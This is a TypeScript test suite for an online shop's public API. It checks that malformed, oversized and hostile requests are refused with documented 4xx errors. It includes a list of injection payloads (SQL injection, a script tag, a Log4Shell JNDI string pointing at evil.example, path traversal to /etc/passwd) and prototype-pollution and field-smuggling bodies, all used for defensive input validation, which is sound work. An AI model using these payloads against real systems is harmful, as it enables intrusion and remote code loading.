import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { GENERIC_BAD_BODIES } from '../../support/bad-input.js';
import { http } from '../../support/services.js';
import { eventually, startTestSystem, type TestSystem } from '../../support/system.js';
import {
  assertError,
  assertRejected,
  issuesOf,
  newProduct,
  registerShopper,
  type AuthResponse,
  type Me,
  type OrderView,
  type PlaceOrderResponse,
  type Shopper,
} from './gateway-client.js';
import { OpenApiContract, type ApiDocument } from './openapi-contract.js';
import { TEST_CARDS } from '../../../src/contexts/payment/contract.js';

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE customers; --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '$where',
  'A'.repeat(10_000),
];

/**
 * The public API turns every malformed, mistyped, oversized or hostile input away with a 4xx in
 * the one envelope, and never answers 500. Valid-but-odd values (unicode names, quotes) are
 * stored and returned verbatim. Every answer is also checked against the OpenAPI document: a
 * refusal must be one the route documents, in the documented envelope.
 */
describe('gateway: bad input through the public API', function () {
  this.timeout(60_000);
  let system: TestSystem;
  let api: string;
  let shopper: Shopper;
  let sku: string;
  let contract: OpenApiContract;

  before(async function () {
    this.timeout(180_000);
    system = await startTestSystem();
    api = system.gateway.url;
    contract = new OpenApiContract(api, (await http<ApiDocument>(api, 'GET', '/api/openapi.json')).body);
    shopper = await registerShopper(api);
    sku = await newProduct(system, 100);
  });
  after(async function () {
    this.timeout(60_000);
    await system?.stop();
  });

  async function rejected(method: string, path: string, body: unknown, label: string, headers: Record<string, string> = {}) {
    return assertRejected(await contract.http(method, path, body, { ...shopper.headers, ...headers }), label);
  }

  it('generic bad bodies on every JSON endpoint', async () => {
    const endpoints: [string, string][] = [
      ['POST', '/api/auth/register'],
      ['POST', '/api/auth/login'],
      ['POST', '/api/orders'],
      ['POST', `/api/orders/${randomUUID()}/cancel`],
    ];
    const bodies = [
      ...GENERIC_BAD_BODIES,
      { label: 'prototype pollution', body: '{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}' },
      { label: 'very deep nesting', body: '['.repeat(5000) + ']'.repeat(5000) },
      { label: 'duplicate keys', body: '{"email":"a@example.com","email":{"$gt":""}}' },
      { label: 'trailing garbage', body: '{"email":"a@example.com"} trailing' },
      { label: 'invalid escape', body: '{"email":"\\x41"}' },
      { label: 'lone surrogate', body: '{"name":"\\ud800","email":"a@example.com","password":"password123"}' },
    ];
    for (const [method, path] of endpoints) {
      for (const { label, body } of bodies) {
        if (label === 'empty object' && path.endsWith('/cancel')) continue; // {} is a valid cancel body
        await rejected(method, path, body, `${method} ${path}: ${label}`);
      }
    }
    assert.ok(!({} as Record<string, unknown>).admin, 'nothing was polluted');
  });

  it('register: wrong types, bounds, unknown fields and injection strings', async () => {
    const valid = () => ({ email: `x-${randomUUID()}@example.com`, name: 'Valid Name', password: 'password123' });
    const cases: [string, unknown][] = [
      ['email number', { ...valid(), email: 42 }],
      ['email array', { ...valid(), email: ['a@example.com'] }],
      ['email object', { ...valid(), email: { $ne: null } }],
      ['email not an address', { ...valid(), email: 'not-an-email' }],
      ['email too long', { ...valid(), email: `${'a'.repeat(250)}@example.com` }],
      ['name null', { ...valid(), name: null }],
      ['name empty', { ...valid(), name: '   ' }],
      ['name control characters', { ...valid(), name: 'bad\u0007name' }],
      ['name too long', { ...valid(), name: 'n'.repeat(101) }],
      ['password short', { ...valid(), password: 'short' }],
      ['password long', { ...valid(), password: 'p'.repeat(129) }],
      ['password number', { ...valid(), password: 12345678 }],
      ['unknown field', { ...valid(), role: 'admin' }],
      ['customer id smuggled', { ...valid(), id: randomUUID() }],
      ['password hash smuggled', { ...valid(), passwordHash: '$argon2id$v=19$m=1,t=1,p=1$AAAA$AAAA' }],
      ...INJECTIONS.map((text): [string, unknown] => [`email injection ${text.slice(0, 20)}`, { ...valid(), email: text }]),
    ];
    for (const [label, body] of cases) {
      const code = await rejected('POST', '/api/auth/register', body, label);
      assert.equal(code, 'VALIDATION.INVALID_REQUEST', label);
    }
    const [issue] = issuesOf((await contract.http('POST', '/api/auth/register', { ...valid(), password: 'short' })).body);
    assert.equal(issue?.path, 'body.password');
  });

  it('unicode and quote-laden names are data: stored and returned verbatim', async () => {
    const names = [
      'Zoë Ångström-Ñúñez',
      '李小龍',
      '🦄 Unicorn',
      'مرحبا',
      'O\'Brien "The" <b>Bold</b>',
      "Robert'); DROP TABLE customers;--",
    ];
    for (const name of names) {
      const account = { email: `u-${randomUUID()}@example.com`, name, password: 'pässwörd-🔑' };
      const registered = await contract.http<AuthResponse>('POST', '/api/auth/register', account);
      assert.equal(registered.status, 201, `${name}: ${JSON.stringify(registered.body)}`);
      const me = await contract.http<Me>('GET', '/api/me', undefined, { Authorization: `Bearer ${registered.body.token}` });
      assert.equal(me.body.name, name);
    }
    // Unicode passwords are compared as given.
    const login = await contract.http('POST', '/api/auth/login', { email: shopper.email, password: `${shopper.password}\u200b` });
    assertError(login, 401, 'AUTH.INVALID_CREDENTIALS');
  });

  it('place order: wrong types, bounds, bad cards, bad Idempotency-Key', async () => {
    const line = { sku, quantity: 1 };
    const valid = { lines: [line], cardNumber: TEST_CARDS.APPROVE.number };
    const cases: [string, unknown, Record<string, string>?][] = [
      ['lines missing', { cardNumber: valid.cardNumber }],
      ['lines empty', { ...valid, lines: [] }],
      ['lines object', { ...valid, lines: { 0: line } }],
      ['too many lines', { ...valid, lines: Array.from({ length: 51 }, (_, i) => ({ sku: `SKU-${i}`, quantity: 1 })) }],
      ['quantity zero', { ...valid, lines: [{ sku, quantity: 0 }] }],
      ['quantity negative', { ...valid, lines: [{ sku, quantity: -1 }] }],
      ['quantity fraction', { ...valid, lines: [{ sku, quantity: 1.5 }] }],
      ['quantity string', { ...valid, lines: [{ sku, quantity: '1' }] }],
      ['quantity huge', { ...valid, lines: [{ sku, quantity: 1e12 }] }],
      ['quantity NaN-ish', { ...valid, lines: [{ sku, quantity: 'NaN' }] }],
      ['duplicate sku', { ...valid, lines: [line, line] }],
      ['sku lower case', { ...valid, lines: [{ sku: sku.toLowerCase(), quantity: 1 }] }],
      ['line unknown field', { ...valid, lines: [{ ...line, price: 0 }] }],
      ['card fails Luhn', { ...valid, cardNumber: '4242424242424241' }],
      ['card letters', { ...valid, cardNumber: '4242-abcd-4242-4242' }],
      ['card number type', { ...valid, cardNumber: 4242424242424242 }],
      ['customer id smuggled', { ...valid, customerId: randomUUID() }],
      ['total smuggled', { ...valid, total: 1 }],
      ['bad Idempotency-Key', valid, { 'Idempotency-Key': 'spaces are not allowed' }],
      ['long Idempotency-Key', valid, { 'Idempotency-Key': 'k'.repeat(201) }],
      ...INJECTIONS.map((text): [string, unknown] => [
        `sku injection ${text.slice(0, 20)}`,
        { ...valid, lines: [{ sku: text, quantity: 1 }] },
      ]),
      ...INJECTIONS.map((text): [string, unknown] => [`card injection ${text.slice(0, 20)}`, { ...valid, cardNumber: text }]),
    ];
    for (const [label, body, headers] of cases) {
      const code = await rejected('POST', '/api/orders', body, label, headers);
      assert.equal(code, 'VALIDATION.INVALID_REQUEST', label);
    }
    const zero = await contract.http('POST', '/api/orders', { ...valid, lines: [{ sku, quantity: 0 }] }, shopper.headers);
    assert.equal(issuesOf(zero.body)[0]?.path, 'body.lines.0.quantity');
  });

  it('place order: skus the catalog does not have are a 422 per line, and no saga starts', async () => {
    const buyer = await registerShopper(api);
    const cardNumber = TEST_CARDS.APPROVE.number;
    // '00' fits the sku pattern; NO-SUCH-SKU is well-formed too: only the catalog can tell.
    const lines = [
      { sku, quantity: 1 },
      { sku: '00', quantity: 1 },
      { sku: 'NO-SUCH-SKU', quantity: 2 },
    ];
    const unknown = await contract.http('POST', '/api/orders', { lines, cardNumber }, buyer.headers);
    assertError(unknown, 422, 'INVENTORY.PRODUCT_NOT_FOUND');
    const issues = issuesOf(unknown.body);
    assert.deepEqual(
      issues.map((issue) => [issue.path, issue.code]),
      [
        ['body.lines.1.sku', 'INVENTORY.PRODUCT_NOT_FOUND'],
        ['body.lines.2.sku', 'INVENTORY.PRODUCT_NOT_FOUND'],
      ],
    );
    assert.match(issues[0]?.message ?? '', /00/);
    assertError(
      await contract.http('POST', '/api/orders', { lines: [{ sku: '00', quantity: 1 }], cardNumber }, buyer.headers),
      422,
      'INVENTORY.PRODUCT_NOT_FOUND',
    );
    // The same key with a known sku later is a first placement, not a replay: nothing was recorded under it.
    const key = { ...buyer.headers, 'Idempotency-Key': `unknown-${randomUUID()}` };
    assertError(
      await contract.http('POST', '/api/orders', { lines: [{ sku: 'NO-SUCH-SKU', quantity: 1 }], cardNumber }, key),
      422,
      'INVENTORY.PRODUCT_NOT_FOUND',
    );
    const placed = await contract.http('POST', '/api/orders', { lines: [{ sku, quantity: 1 }], cardNumber }, key);
    assert.equal(placed.status, 202, JSON.stringify(placed.body));
    assert.equal(placed.headers.get('Idempotent-Replayed'), null);

    // Visibility is eventually consistent: once the one accepted order shows, the refused ones would have too.
    const query = `CustomerId = '${buyer.id}'`;
    const started = async () => ((await system.temporal.workflow.count(query)).count > 0 ? true : undefined);
    await eventually('the accepted order in the visibility store', started);
    assert.equal((await system.temporal.workflow.count(query)).count, 1, 'only the accepted order started a saga');
  });

  it('place order: with inventory down the catalog check steps aside; the saga checks once inventory is back', async () => {
    const restart = await system.stopService('inventory');
    let orderId: string;
    try {
      const order = { lines: [{ sku, quantity: 1 }], cardNumber: TEST_CARDS.APPROVE.number };
      const placed = await contract.http<PlaceOrderResponse>('POST', '/api/orders', order, shopper.headers);
      assert.equal(placed.status, 202, JSON.stringify(placed.body));
      orderId = placed.body.orderId;
    } finally {
      await restart();
    }
    await eventually(
      'the order confirmed',
      async () =>
        (await contract.http<OrderView>('GET', `/api/orders/${orderId}`, undefined, shopper.headers)).body.status === 'CONFIRMED'
          ? true
          : undefined,
      30_000,
    );
  });

  it('a cancel reason: NUL is refused at the edge; line breaks and tabs cancel the order like any reason', async () => {
    const placed = await contract.http<PlaceOrderResponse>(
      'POST',
      '/api/orders',
      { lines: [{ sku, quantity: 1 }], cardNumber: TEST_CARDS.REQUIRES_CONFIRMATION.number },
      shopper.headers,
    );
    assert.equal(placed.status, 202, JSON.stringify(placed.body));
    const { orderId } = placed.body;
    const view = () => http<OrderView>(api, 'GET', `/api/orders/${orderId}`, undefined, shopper.headers);
    await eventually('the saga to wait for the confirmation', async () =>
      (await view()).body.saga?.awaitingPaymentConfirmation ? true : undefined,
    );

    const nul = await contract.http('POST', `/api/orders/${orderId}/cancel`, { reason: 'changed\u0000mind' }, shopper.headers);
    assertError(nul, 400, 'VALIDATION.INVALID_REQUEST');
    assert.deepEqual(
      issuesOf(nul.body).map((issue) => issue.path),
      ['body.reason'],
    );

    // Before, such a reason reached the services as it was: the notification service refused its
    // control characters (no ORDER_CANCELLED notification); NUL would have failed cancel-order for good.
    const reason = 'changed my mind:\n\tfound it cheaper';
    assert.equal((await contract.http('POST', `/api/orders/${orderId}/cancel`, { reason }, shopper.headers)).status, 202);
    const cancelled = await eventually('the order to be cancelled', async () => {
      const current = (await view()).body;
      return current.saga?.outcome ? current : undefined;
    });
    assert.equal(cancelled.saga?.outcome, 'CANCELLED');
    assert.equal(cancelled.order?.history.at(-1)?.reason, reason);
    const notifications = await eventually('the cancellation notice', async () => {
      const page = await http<{ items: { type: string; orderId: string | null; message: string }[] }>(
        api,
        'GET',
        '/api/notifications',
        undefined,
        shopper.headers,
      );
      return page.body.items.find((item) => item.orderId === orderId && item.type === 'ORDER_CANCELLED');
    });
    assert.match(notifications.message, /changed my mind: found it cheaper/);
  });

  it('bodies over 64 kB are 413 HTTP.PAYLOAD_TOO_LARGE', async () => {
    const huge = JSON.stringify({ email: 'a@example.com', name: 'x'.repeat(70 * 1024), password: 'password123' });
    for (const path of ['/api/auth/register', '/api/auth/login', '/api/orders']) {
      assertError(await contract.http('POST', path, huge, shopper.headers), 413, 'HTTP.PAYLOAD_TOO_LARGE', path);
    }
    const padded = JSON.stringify({ lines: [{ sku, quantity: 1 }], cardNumber: TEST_CARDS.APPROVE.number, pad: 'x'.repeat(60 * 1024) });
    const big = await contract.http('POST', '/api/orders', padded, shopper.headers);
    assertError(big, 400, 'VALIDATION.INVALID_REQUEST', 'under the limit the schema decides');
  });

  it('path parameters: ids and skus that are not ids or skus', async () => {
    const hostile = [
      'not-a-uuid',
      '1',
      "' OR 1=1 --",
      '%27%20OR%201%3D1',
      '..%2F..%2Fetc%2Fpasswd',
      '%00',
      'a'.repeat(2000),
      '😀',
      `${randomUUID()}x`,
    ];
    for (const id of hostile) {
      for (const [method, path] of [
        ['GET', `/api/orders/${id}`],
        ['POST', `/api/orders/${id}/cancel`],
        ['POST', `/api/orders/${id}/payment-confirmation`],
        ['POST', `/api/notifications/${id}/read`],
        ['GET', `/api/products/${id}`],
      ] as const) {
        const body = method === 'POST' ? {} : undefined;
        const response = await contract.http(method, path.replace(id, encodeURIComponent(id)), body, shopper.headers);
        assertRejected(response, `${method} ${path.slice(0, 80)}`);
      }
    }
    // Malformed percent-encoding, sent raw.
    for (const raw of ['%', '%E0%A4%A', '%ZZ', '%C0%AF']) {
      assertRejected(await contract.http('GET', `/api/orders/${raw}`, undefined, shopper.headers), `raw ${raw}`);
      assertRejected(await contract.http('GET', `/api/products/${raw}`), `raw sku ${raw}`);
      assertRejected(await contract.http('GET', `/api/products?limit=${raw}`), `raw query ${raw}`);
    }
    assertError(await contract.http('GET', '/api/products/NO-SUCH-SKU'), 404, 'INVENTORY.PRODUCT_NOT_FOUND');
  });

  it('query strings: wrong types, bounds, unknown and repeated parameters', async () => {
    const cases = [
      '/api/products?limit=abc',
      '/api/products?limit=0',
      '/api/products?limit=101',
      '/api/products?limit=-1',
      '/api/products?limit=1.5',
      '/api/products?offset=-5',
      '/api/products?limit=1&limit=2',
      '/api/products?unknown=1',
      '/api/products?limit[$gt]=0',
      "/api/products?limit=1'%20OR%20'1'='1",
      '/api/orders?limit=1000',
      '/api/orders?customerId=' + randomUUID(),
      '/api/notifications?unreadOnly=yes',
      '/api/notifications?unreadOnly=true&extra=1',
      '/api/me?debug=true',
      `/api/products?limit=${'9'.repeat(400)}`,
      // Not integers, though Number() reads them as such.
      '/api/products?limit=',
      '/api/notifications?offset=',
      '/api/orders?offset=%20',
      '/api/products?limit=1e1',
      '/api/products?limit=0x10',
      '/api/products?limit=%205',
      '/api/products?offset=5.0',
    ];
    for (const path of cases) {
      const code = await rejected('GET', path, undefined, path);
      assert.equal(code, 'VALIDATION.INVALID_REQUEST', path);
    }
    assert.equal((await contract.http('GET', '/api/products?limit=5&offset=0')).status, 200);
  });

  it('wrong content types, methods and routes', async () => {
    const login = { email: shopper.email, password: shopper.password };
    const post = (contentType: string, body: RequestInit['body']) =>
      contract.fetch(`/api/auth/login`, { method: 'POST', headers: { 'content-type': contentType }, body });
    const asText = await post('text/plain', JSON.stringify(login));
    assert.equal(asText.status, 400, 'only JSON bodies are read');
    const asForm = await post('application/x-www-form-urlencoded', 'email=a&password=b');
    assert.equal(asForm.status, 400);
    const binary = await post('application/json', new Uint8Array([0xff, 0xfe, 0x00, 0x7b]));
    assert.ok(binary.status >= 400 && binary.status < 500, `binary: ${binary.status}`);

    assertError(await contract.http('DELETE', '/api/orders'), 405, 'HTTP.METHOD_NOT_ALLOWED');
    assertError(await contract.http('PUT', '/api/auth/login', login), 405, 'HTTP.METHOD_NOT_ALLOWED');
    assertError(await contract.http('GET', '/api/admin'), 404, 'HTTP.NOT_FOUND');
    assertError(await contract.http('GET', '/api/../../etc/passwd'), 404, 'HTTP.NOT_FOUND');
    assertError(await contract.http('GET', '/api/orders/'), 401, 'AUTH.UNAUTHENTICATED', 'trailing slash without a token');
  });
});
